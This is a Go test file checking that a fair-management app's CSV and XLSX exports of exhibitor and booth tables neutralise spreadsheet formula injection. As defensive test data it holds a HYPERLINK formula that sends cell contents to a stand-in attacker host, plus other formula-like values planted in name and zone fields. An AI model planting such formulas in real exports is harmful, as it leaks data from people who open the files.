package report

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/ocopfair/ocopfair/pkg/apperr"
	"github.com/ocopfair/ocopfair/pkg/sheet"
	"github.com/ocopfair/ocopfair/services/event/internal/applicants"
	"github.com/ocopfair/ocopfair/services/event/internal/booth"
	"github.com/ocopfair/ocopfair/services/event/internal/fair"
)

const hostile = `=HYPERLINK("http://evil.example/?x="&A1,"x")`

// hostileInput is a fair where a producer, its product and the organiser's zone carry formulas.
func hostileInput() Input {
	f := fair.Fair{ID: "f1", Fees: fair.Fees{BoothPrices: map[string]int64{booth.Standard: 12_000_000}}}
	return Input{
		Fair:   f,
		Booths: []booth.Booth{{FairID: "f1", Code: "A01", Zone: "@SUM(1+1)", Kind: booth.Standard, W: 3, H: 3}},
		Assignments: []booth.Assignment{{ID: "as1", FairID: "f1", Code: "A01", Zone: "@SUM(1+1)", ApplicationID: "app1",
			ProducerID: "p1", Active: true}},
		Applications: []applicants.Application{{ID: "app1", FairID: "f1", ProducerID: "p1", ProducerName: hostile, Province: "01",
			Status: applicants.Approved, Products: []applicants.Product{{Name: "+84 912 345 678", CriteriaSet: 1, Sector: "food", Stars: 4}}}},
	}
}

// boothTable is the booth plan's download of in, which the floor-plan routes serve.
func boothTable(in Input) sheet.Table {
	return booth.PlanTable(in.Fair, in.Booths, in.Assignments, in.Applications, apperr.Vietnamese)
}

func TestExportsNeutraliseFormulas(t *testing.T) {
	for _, c := range []struct {
		name        string
		table       sheet.Table
		nameCol     int // column of the producer's name
		zoneCol     int
		numberCol   int // a numeric column, which must stay a number
		numberValue string
	}{
		{"exhibitors", ExhibitorTable(hostileInput(), apperr.Vietnamese), 3, 2, 9, "12000000"},
		{"booths", boothTable(hostileInput()), 9, 1, 7, "12000000"},
	} {
		t.Run(c.name+" csv", func(t *testing.T) {
			data, err := c.table.CSV()
			if err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF")))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(recs) != 2 {
				t.Fatalf("CSV has %d records, want a header and one row:\n%s", len(recs), data)
			}
			row := recs[1]
			if got, want := row[c.nameCol], "'"+hostile; got != want {
				t.Errorf("producer cell = %q, want %q", got, want)
			}
			if got, want := row[c.zoneCol], "'@SUM(1+1)"; got != want {
				t.Errorf("zone cell = %q, want %q", got, want)
			}
			if got := row[c.numberCol]; got != c.numberValue {
				t.Errorf("numeric cell = %q, want %q", got, c.numberValue)
			}
			for i, cell := range row {
				if sheet.Text(cell) != cell {
					t.Errorf("cell %d = %q can run as a formula", i, cell)
				}
			}
		})
		t.Run(c.name+" xlsx", func(t *testing.T) {
			data, err := c.table.XLSX()
			if err != nil {
				t.Fatal(err)
			}
			book, err := excelize.OpenReader(bytes.NewReader(data))
			if err != nil {
				t.Fatal(err)
			}
			defer book.Close()
			cell, err := excelize.CoordinatesToCellName(c.nameCol+1, 2)
			if err != nil {
				t.Fatal(err)
			}
			typ, err := book.GetCellType("Danh sách", cell)
			if err != nil {
				t.Fatal(err)
			}
			if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("producer cell %s has type %v, want a string cell", cell, typ)
			}
			if formula, err := book.GetCellFormula("Danh sách", cell); err != nil || formula != "" {
				t.Errorf("producer cell %s has formula %q (%v), want none", cell, formula, err)
			}
			if v, err := book.GetCellValue("Danh sách", cell); err != nil || v != hostile {
				t.Errorf("producer cell %s = %q (%v), want the name as text", cell, v, err)
			}
			num, err := excelize.CoordinatesToCellName(c.numberCol+1, 2)
			if err != nil {
				t.Fatal(err)
			}
			if typ, err := book.GetCellType("Danh sách", num); err != nil || (typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber) {
				t.Errorf("numeric cell %s has type %v (%v), want a number", num, typ, err)
			}
		})
	}
}
